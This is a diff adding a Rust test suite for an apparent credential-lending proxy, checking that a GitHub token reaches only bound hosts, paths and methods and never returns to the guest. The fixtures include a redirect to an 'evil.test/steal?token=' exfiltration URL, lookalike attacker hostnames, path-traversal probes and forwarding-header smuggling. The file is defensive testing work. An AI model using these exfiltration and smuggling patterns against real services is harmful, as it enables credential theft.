@@ -1,0 +1,271 @@
+//! Secrets: lent to exactly their requests, never back to the box, never to anybody else.
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+use bytes::Bytes;
+use http::{Request, Response, StatusCode};
+use http_body_util::{BodyExt, Full};
+use hyper_util::rt::{TokioExecutor, TokioIo};
+
+use crate::rig::World;
+use crate::server::{answering, fixed, ok};
+
+const TOKEN: &str = "ghp_TheRealToken0123456789abcdefXYZ";
+const ALLOW: &str = r#"{ host = "api.github.com", ports = [PORT], tls = "inspect" },
+ { host = "api.github.com.evil.test", ports = [PORT], tls = "inspect" }, { host = "evil.test", ports = [PORT], tls = "inspect" }"#;
+const BIND: &str = r#"{ secret = "github", host = "api.github.com", port = PORT, paths = ["/repos/*", "/echo"], methods = ["GET"] }"#;
+const STAND_IN: &str =
+    r#"{ secret = "github", host = "api.github.com", port = PORT, placeholder = "ghp_", env = "GH_TOKEN" }"#;
+const NAMES: &[&str] = &["api.github.com", "api.github.com.evil.test", "evil.test"];
+
+pub(crate) struct Answer {
+    pub(crate) status: StatusCode,
+    pub(crate) headers: http::HeaderMap,
+    pub(crate) body: Bytes,
+}
+
+/// One request of the box over a connection of its own.
+pub(crate) async fn ask(world: &World, name: &str, alpn: &[u8], request: Request<Full<Bytes>>) -> Answer {
+    let stream = world.tls(name, alpn).await.unwrap();
+    let io = TokioIo::new(stream);
+    let response = if alpn == b"h2" {
+        let (mut sender, connection) =
+            hyper::client::conn::http2::handshake(TokioExecutor::new(), io).await.unwrap();
+        tokio::spawn(connection);
+        sender.send_request(request).await.unwrap()
+    } else {
+        let (mut sender, connection) = hyper::client::conn::http1::handshake(io).await.unwrap();
+        tokio::spawn(connection);
+        sender.send_request(request).await.unwrap()
+    };
+    let (parts, body) = response.into_parts();
+    Answer { status: parts.status, headers: parts.headers, body: body.collect().await.unwrap().to_bytes() }
+}
+
+pub(crate) fn get(
+    world: &World,
+    name: &str,
+    alpn: &[u8],
+    path: &str,
+    headers: &[(&str, &str)],
+) -> Request<Full<Bytes>> {
+    let authority = format!("{name}:{}", world.port);
+    let mut builder = if alpn == b"h2" {
+        Request::builder().uri(format!("https://{authority}{path}"))
+    } else {
+        Request::builder().uri(path).header("host", authority)
+    };
+    for (name, value) in headers {
+        builder = builder.header(*name, *value);
+    }
+    builder.body(Full::default()).unwrap()
+}
+
+/// Says everything that it was sent, in every way that servers do.
+fn echo(parts: &http::request::Parts, _body: &Bytes) -> Response<Full<Bytes>> {
+    let sent = parts.headers.get("authorization").map_or("", |value| value.to_str().unwrap()).to_owned();
+    let hex: String = sent.bytes().map(|byte| format!("{byte:02x}")).collect();
+    let text = format!("{sent} {} {hex} {}", STANDARD.encode(&sent), sent.replace('_', "%5F"));
+    let mut response = ok(text);
+    response.headers_mut().insert("x-you-sent", sent.parse().unwrap());
+    response.headers_mut().insert("set-cookie", format!("session={sent}; path=/").parse().unwrap());
+    response
+}
+
+fn holds(bytes: &[u8], part: &str) -> bool {
+    bytes.windows(part.len()).any(|window| window == part.as_bytes())
+}
+
+#[tokio::test]
+async fn a_secret_goes_up_and_never_comes_back() {
+    for alpn in [&b"http/1.1"[..], b"h2"] {
+        let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
+        let seen = answering(&world, NAMES, &[b"h2", b"http/1.1"], echo);
+        let request = get(
+            &world,
+            "api.github.com",
+            alpn,
+            "/echo",
+            &[("authorization", "Bearer mine"), ("range", "bytes=0-3"), ("accept-encoding", "gzip")],
+        );
+        let answer = ask(&world, "api.github.com", alpn, request).await;
+        {
+            let seen = seen.lock().unwrap();
+            let sent: Vec<_> = seen[0].0.headers.get_all("authorization").iter().collect();
+            assert_eq!(sent, [&format!("Bearer {TOKEN}")]);
+            assert_eq!(seen[0].0.headers["accept-encoding"], "identity");
+            assert!(!seen[0].0.headers.contains_key("range"));
+        }
+        assert_eq!(answer.status, StatusCode::OK);
+        let hex: String = TOKEN.bytes().map(|byte| format!("{byte:02x}")).collect();
+        for form in [TOKEN, &hex, &STANDARD.encode(format!("Bearer {TOKEN}"))[12..40]] {
+            assert!(!holds(&answer.body, form), "{form}: {:?}", answer.body);
+            assert!(!format!("{:?}", answer.headers).contains(form), "{form}");
+        }
+        assert!(holds(&answer.body, "Bearer ***"), "{:?}", answer.body);
+        assert_eq!(world.lent(), ["github api.github.com GET /echo"]);
+        // In no record either.
+        assert!(!format!("{:?}", world.records()).contains(TOKEN));
+    }
+}
+
+#[tokio::test]
+async fn no_other_host_path_or_method_gets_it() {
+    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
+    let seen = answering(&world, NAMES, &[], echo);
+    for (name, path) in [
+        ("api.github.com.evil.test", "/echo"),
+        ("evil.test", "/repos/x"),
+        ("api.github.com", "/user"),
+        ("api.github.com", "/repos"),
+        // Ambiguous paths are of no binding that has paths.
+        ("api.github.com", "/repos/../user"),
+        ("api.github.com", "/repos/%2e%2e/user"),
+    ] {
+        let answer = ask(&world, name, b"http/1.1", get(&world, name, b"http/1.1", path, &[])).await;
+        assert_eq!(answer.status, StatusCode::OK, "{name}{path}");
+    }
+    let mut post = get(&world, "api.github.com", b"http/1.1", "/echo", &[]);
+    *post.method_mut() = http::Method::POST;
+    ask(&world, "api.github.com", b"http/1.1", post).await;
+    for (parts, body) in seen.lock().unwrap().iter() {
+        assert!(!parts.headers.contains_key("authorization"), "{}", parts.uri);
+        assert!(!holds(body, TOKEN));
+    }
+    assert_eq!(world.lent(), [] as [String; 0]);
+}
+
+/// The published pattern: a proxy that takes the target from a header and checks it by its beginning. There is no such
+/// header here, and nothing that a guest writes changes where a secret goes.
+#[tokio::test]
+async fn a_target_in_a_header_is_just_a_header() {
+    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
+    let seen = answering(&world, NAMES, &[], echo);
+    for target in
+        ["https://api.github.com.evil.test", "https://api.github.com@evil.test", "https://evil.test"]
+    {
+        let headers =
+            [("x-forward-to", target), ("x-forwarded-host", "evil.test"), ("x-original-url", "/admin")];
+        let request = get(&world, "api.github.com", b"http/1.1", "/repos/x", &headers);
+        ask(&world, "api.github.com", b"http/1.1", request).await;
+        let request =
+            get(&world, "evil.test", b"http/1.1", "/repos/x", &[("x-forward-to", "https://api.github.com")]);
+        ask(&world, "evil.test", b"http/1.1", request).await;
+    }
+    for (parts, _) in seen.lock().unwrap().iter() {
+        let host = parts.headers["host"].to_str().unwrap();
+        assert_eq!(
+            host.starts_with("api.github.com:"),
+            parts.headers.contains_key("authorization"),
+            "{host}"
+        );
+        assert!(
+            !parts.headers.contains_key("x-forwarded-host") && !parts.headers.contains_key("x-original-url")
+        );
+    }
+}
+
+#[tokio::test]
+async fn a_redirect_is_handed_back_and_carries_nothing() {
+    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
+    let seen = answering(&world, NAMES, &[], |parts, _| {
+        let mut response = ok("");
+        if parts.headers["host"].to_str().unwrap().starts_with("api.") {
+            *response.status_mut() = StatusCode::TEMPORARY_REDIRECT;
+            let sent = parts.headers["authorization"].to_str().unwrap().replace(' ', "+");
+            let place = format!("https://evil.test/steal?token={sent}");
+            response.headers_mut().insert("location", place.parse().unwrap());
+        }
+        response
+    });
+    let request = get(&world, "api.github.com", b"http/1.1", "/repos/x", &[]);
+    let answer = ask(&world, "api.github.com", b"http/1.1", request).await;
+    assert_eq!(answer.status, StatusCode::TEMPORARY_REDIRECT);
+    let place = answer.headers["location"].to_str().unwrap().to_owned();
+    assert!(
+        place.starts_with("https://evil.test/steal?token=Bearer+***") && !place.contains(TOKEN),
+        "{place}"
+    );
+    assert_eq!(seen.lock().unwrap().len(), 1);
+    // The guest follows it by itself: what it sends is what it has.
+    let path = place.strip_prefix("https://evil.test").unwrap();
+    ask(&world, "evil.test", b"http/1.1", get(&world, "evil.test", b"http/1.1", path, &[])).await;
+    let seen = seen.lock().unwrap();
+    assert!(!seen[1].0.headers.contains_key("authorization") && !seen[1].0.uri.to_string().contains(TOKEN));
+}
+
+#[tokio::test]
+async fn a_stand_in_becomes_the_secret_at_home_and_is_stopped_elsewhere() {
+    let world = World::new(ALLOW, STAND_IN, &[("github", TOKEN)]).await;
+    let seen = answering(&world, NAMES, &[], echo);
+    let (variable, stand_in) = world.variables[0].clone();
+    assert_eq!(variable, "GH_TOKEN");
+    assert!(stand_in.starts_with("ghp_bbx") && !stand_in.contains(TOKEN));
+
+    let bearer = format!("token {stand_in}");
+    let login = format!("Basic {}", STANDARD.encode(format!("x-access-token:{stand_in}")));
+    for value in [&bearer, &login] {
+        let request = get(&world, "api.github.com", b"http/1.1", "/any", &[("authorization", value)]);
+        let answer = ask(&world, "api.github.com", b"http/1.1", request).await;
+        assert_eq!(answer.status, StatusCode::OK);
+        assert!(!holds(&answer.body, TOKEN));
+    }
+    {
+        let seen = seen.lock().unwrap();
+        assert_eq!(seen[0].0.headers["authorization"], format!("token {TOKEN}"));
+        let login = format!("Basic {}", STANDARD.encode(format!("x-access-token:{TOKEN}")));
+        assert_eq!(seen[1].0.headers["authorization"], login);
+    }
+    // To another host, in another header, in a query: stopped.
+    let query = format!("/any?key={stand_in}");
+    for (name, path, header, value) in [
+        ("evil.test", "/any", "authorization", &bearer),
+        ("evil.test", "/any", "authorization", &login),
+        ("evil.test", "/any", "x-note", &stand_in),
+        ("evil.test", &query, "x-note", &variable),
+        ("api.github.com", "/any", "x-note", &stand_in),
+        ("api.github.com", &query, "x-note", &variable),
+    ] {
+        let request = get(&world, name, b"http/1.1", path, &[(header, value)]);
+        let answer = ask(&world, name, b"http/1.1", request).await;
+        assert_eq!(answer.status, StatusCode::FORBIDDEN, "{name}{path} {header}");
+        assert!(holds(&answer.body, "\"reason\":\"credential-misplaced\""), "{:?}", answer.body);
+    }
+    assert_eq!(seen.lock().unwrap().len(), 2);
+    assert!(world.denials().contains(&"credential-misplaced"));
+    // In a body it is a text like any other: agents quote their own output.
+    let mut request = get(&world, "evil.test", b"http/1.1", "/any", &[]);
+    *request.method_mut() = http::Method::POST;
+    *request.body_mut() = Full::from(stand_in.clone());
+    assert_eq!(ask(&world, "evil.test", b"http/1.1", request).await.status, StatusCode::OK);
+    assert_eq!(seen.lock().unwrap()[2].1, stand_in);
+}
+
+#[tokio::test]
+async fn a_compressed_answer_that_cannot_be_scrubbed_is_not_handed_on() {
+    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
+    let answer =
+        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 4\r\n\r\n\x1f\x8b\x08\x00".to_vec();
+    fixed(&world, NAMES, answer);
+    let request = get(&world, "api.github.com", b"http/1.1", "/echo", &[]);
+    let answer = ask(&world, "api.github.com", b"http/1.1", request).await;
+    assert_eq!(answer.status, StatusCode::BAD_GATEWAY);
+    assert!(holds(&answer.body, "cannot be scrubbed"), "{:?}", answer.body);
+}
+
+#[tokio::test]
+async fn a_servers_own_word_for_a_status_does_not_carry_the_secret() {
+    let world = World::new(ALLOW, BIND, &[("github", TOKEN)]).await;
+    let answer = format!("HTTP/1.1 200 {TOKEN}\r\nX-{TOKEN}: 1\r\nContent-Length: 0\r\n\r\n").into_bytes();
+    fixed(&world, NAMES, answer);
+    let mut stream = world.tls("api.github.com", b"http/1.1").await.unwrap();
+    let head =
+        format!("GET /echo HTTP/1.1\r\nHost: api.github.com:{}\r\nConnection: close\r\n\r\n", world.port);
+    let mut answer = Vec::new();
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    stream.write_all(head.as_bytes()).await.unwrap();
+    stream.read_to_end(&mut answer).await.ok();
+    let text = String::from_utf8_lossy(&answer).to_ascii_lowercase();
+    assert!(text.starts_with("http/1.1 200 ok\r\n"), "{text}");
+    assert!(!text.contains(&TOKEN.to_ascii_lowercase()), "{text}");
+}
